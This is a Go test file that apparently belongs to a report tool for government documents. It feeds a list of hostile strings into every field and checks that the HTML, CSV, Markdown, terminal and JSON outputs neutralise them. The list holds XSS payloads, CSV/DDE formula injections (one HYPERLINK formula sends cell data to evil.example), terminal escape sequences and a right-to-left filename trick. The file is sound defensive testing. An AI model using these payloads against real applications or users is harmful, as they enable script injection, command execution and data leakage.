package reports

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"github.com/ogicheck/ogicheck/result"
)

// inject puts s into every string of r that can come from a web page or a
// document, plus the codes a foreign result file could carry.
func inject(r *result.Result, s string) *result.Result {
	r.Tool, r.Generated, r.Incomplete = s, s, s
	for _, d := range r.Documents {
		d.Source, d.Site, d.Title, d.Agency, d.KindReason, d.Error, d.Charset, d.Format = s, s, s, s, s, s, s, s
		lv, tpl := result.Level(s), result.Template(s)
		d.YearFrom, d.PublishedFrom, d.AgencyLevel, d.Published, d.Deadline, d.Template = s, s, &lv, &s, &s, &tpl
		d.Dates = append(d.Dates, result.Date{Label: s, Value: s})
		d.Sections = append(d.Sections, result.Section{Number: 3, Heading: s})
		d.Tables = append(d.Tables, result.Table{ID: s, Template: tpl})
		d.Attachments = append(d.Attachments, s)
		for i := range d.Findings {
			injectFinding(&d.Findings[i], s)
		}
	}
	for _, st := range r.Sites {
		st.URL, st.Agency, st.Column, st.ColumnFrom, st.Duration = s, s, s, s, s
		st.Unchecked = result.Text{Zh: s, En: s}
		st.Reports = append(st.Reports, result.SiteReport{Title: s, URL: s, ListDate: s})
		st.Errors = append(st.Errors, result.FetchError{URL: s, Class: result.FetchClass(s), Error: s, Attempts: 1})
		for i := range st.Findings {
			injectFinding(&st.Findings[i], s)
		}
	}
	// A result file from elsewhere may carry unknown codes.
	f := r.Documents[0].Findings[0]
	f.Category, f.Severity = s, result.Severity(s)
	r.Documents[0].Findings = append(r.Documents[0].Findings, f)
	return r
}

func injectFinding(f *result.Finding, s string) {
	f.Rule, f.Message = s, s
	f.Messages = result.Text{Zh: s, En: s}
	e := &f.Evidence
	e.Row, e.Column, e.Expected, e.Actual, e.Snippet, e.URL, e.Related = s, s, s, s, s, s, s
	e.Cells = append(e.Cells, result.CellRef{Row: s, Column: s, Raw: s})
}

var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`</title><script>alert(1)</script>`,
	`javascript:alert(1)`,
	` JaVaScRiPt:alert(1)`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`=HYPERLINK("http://evil.example/?"&A1,"点击")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\x1b[2J\x1b[31m红色\x1b[0m",
	"\x1b]0;owned\x07title",
	"\x1b]8;;http://evil.example/\x1b\\点我\x1b]8;;\x1b\\",
	"abc\u202Egpj.exe",
	"a\x00b\x07c\x08d",
	"| a | b |\n|---|\n[x](javascript:alert(1)) ![i](http://evil.example/i.png) <b>粗</b> **x** $x$",
	"第一行\n- 列表\n# 标题\n> 引用",
	"\xff\xfe无效",
	"https://evil.example/\"onmouseover=\"alert(1)",
	"http://evil.example/<script>",
	"表四（一）“引号”……①",
}

// checkHTML parses the page and fails on anything active or external: a
// script, style or object element other than ours, an event attribute, a
// link that is not http(s) or an in-page anchor, or a src attribute.
func checkHTML(t testing.TB, out string) {
	t.Helper()
	if strings.Contains(strings.ToLower(out), "<script") || strings.Contains(strings.ToLower(out), "<img") {
		t.Errorf("html contains an unescaped <script or <img")
	}
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("parse html: %v", err)
	}
	styles, lang := 0, ""
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "iframe", "object", "embed", "img", "link", "base", "form", "image", "use", "foreignObject":
				t.Errorf("html has a <%s> element", n.Data)
			case "style":
				styles++
			case "html":
				for _, a := range n.Attr {
					if a.Key == "lang" {
						lang = a.Val
					}
				}
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(key, "on"):
					t.Errorf("html has an event attribute %s=%q on <%s>", a.Key, a.Val, n.Data)
				case key == "src" || key == "srcset" || key == "xlink:href" || key == "action" || key == "formaction":
					t.Errorf("html has %s=%q", a.Key, a.Val)
				case key == "href":
					if !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") {
						t.Errorf("html has href=%q", a.Val)
					}
				case key == "style":
					t.Errorf("html has a style attribute %q", a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if styles != 1 {
		t.Errorf("%d <style> elements, want 1", styles)
	}
	if lang != "zh-CN" && lang != "en" {
		t.Errorf("html lang=%q", lang)
	}
}

// checkCSV parses the file and fails on a cell a spreadsheet would run as a
// formula.
func checkCSV(t testing.TB, out string) {
	t.Helper()
	if !strings.HasPrefix(out, utf8BOM) {
		t.Fatalf("csv without BOM")
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, utf8BOM))).ReadAll()
	if err != nil {
		t.Fatalf("parse csv: %v", err)
	}
	for _, rec := range recs {
		if len(rec) != 20 {
			t.Errorf("csv record with %d fields, want 20", len(rec))
		}
		for _, c := range rec {
			if !csvSafe(c) {
				t.Errorf("csv cell could run as a formula: %q", c)
			}
		}
	}
}

func csvSafe(c string) bool {
	t := strings.TrimLeft(c, " \n\u3000")
	if t == "" || c[0] == '\'' {
		return true
	}
	switch t[0] {
	case '=', '+', '@', '\t', '\r':
		return false
	case '-':
		return plainNegative.MatchString(c)
	}
	return true
}

var mdActiveLink = regexp.MustCompile(`(^|[^\\])(\\\\)*\]\(\s*<?\s*(javascript|data|vbscript):`)

var (
	mdCodeSpan = regexp.MustCompile("`[^`]*`")
	mdAnyLink  = regexp.MustCompile(`(^|[^\\])(\\\\)*\]\(|https?://|www\.|<[a-z]+:`)
)

var mdPipe = regexp.MustCompile(`(^|[^\\])(\\\\)*\|`)

// checkMarkdown fails on raw HTML from the input, a javascript: link, or a
// table row with a different number of cells than its header.
func checkMarkdown(t testing.TB, out string) {
	t.Helper()
	low := strings.ToLower(out)
	for _, bad := range []string{"<script", "<img", "<svg", "<b>", "\x1b"} {
		if strings.Contains(low, bad) {
			t.Errorf("markdown contains %q", bad)
		}
	}
	if m := mdActiveLink.FindString(low); m != "" {
		t.Errorf("markdown has a live link to %q", m)
	}
	// URLs from pages are code, never links: outside code spans nothing
	// a renderer would make a link of is left.
	if m := mdAnyLink.FindString(mdCodeSpan.ReplaceAllString(low, "")); m != "" {
		t.Errorf("markdown has a clickable link or autolink %q", m)
	}
	cols := 0
	for _, l := range strings.Split(out, "\n") {
		if !strings.HasPrefix(l, "|") {
			cols = 0
			continue
		}
		n := len(mdPipe.FindAllStringIndex(l, -1))
		if cols == 0 {
			cols = n
		} else if n != cols {
			t.Errorf("markdown table row has %d pipes, header %d: %q", n, cols, l)
		}
	}
}

// checkTerminal fails on any control character but newline, and on boxes
// whose lines differ in width.
func checkTerminal(t testing.TB, out string, color bool) {
	t.Helper()
	if color {
		out = ansiRe.ReplaceAllString(out, "")
	}
	for _, r := range out {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) && r != '\u200d' && r != '\u200c') {
			t.Errorf("terminal output contains %U", r)
			break
		}
	}
	checkBoxWidths(t, out)
}

func TestHostileInput(t *testing.T) {
	for _, s := range hostile {
		for _, lang := range []string{LangZh, LangEn} {
			checkTerminal(t, write(t, inject(fixture(), s), Options{Lang: lang}), false)
			checkTerminal(t, write(t, inject(fixture(), s), Options{Lang: lang, Color: true}), true)
			checkHTML(t, write(t, inject(fixture(), s), Options{Format: FormatHTML, Lang: lang}))
			checkCSV(t, write(t, inject(fixture(), s), Options{Format: FormatCSV, Lang: lang}))
			checkMarkdown(t, write(t, inject(fixture(), s), Options{Format: FormatMarkdown, Lang: lang}))

			out := write(t, inject(fixture(), s), Options{Format: FormatJSON, Lang: lang})
			var got result.Result
			if err := json.Unmarshal([]byte(out), &got); err != nil {
				t.Fatalf("%q: json does not decode: %v", s, err)
			}
			// encoding/json writes U+FFFD for each invalid byte, as []rune does
			if want := string([]rune(s)); got.Documents[0].Title != want {
				t.Errorf("json changed a title: got %q, want %q", got.Documents[0].Title, want)
			}
			if bytes.Contains([]byte(out), []byte("<")) {
				t.Errorf("json has a raw '<' (not safe to embed in HTML)")
			}
		}
	}
}

func TestHTMLLinks(t *testing.T) {
	out := write(t, fixture(), Options{Format: FormatHTML})
	checkHTML(t, out)
	for _, want := range []string{
		`<html lang="zh-CN">`,
		`<a href="https://hongze.example.gov.cn/xxgk/ndbg/2021/index.html" rel="noopener noreferrer nofollow">`,
		`<td class="n mark">10</td>`,      // a cell of the table 四 identity, drawn in its row
		`<td class="n mark focus">0</td>`, // the total that does not add up
		`<span class="sev sev-error">错误</span>`,
		`<svg xmlns="http://www.w3.org/2000/svg"`,
		`name="viewport"`,
		`@media print`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("html lacks %q", want)
		}
	}
	// the javascript: URL is shown as text, never as a link
	out = write(t, inject(fixture(), "javascript:alert(1)"), Options{Format: FormatHTML})
	if !strings.Contains(out, "<td>javascript:alert(1)</td>") || strings.Contains(out, `href="javascript`) {
		t.Errorf("javascript: URL not rendered as plain text")
	}
}
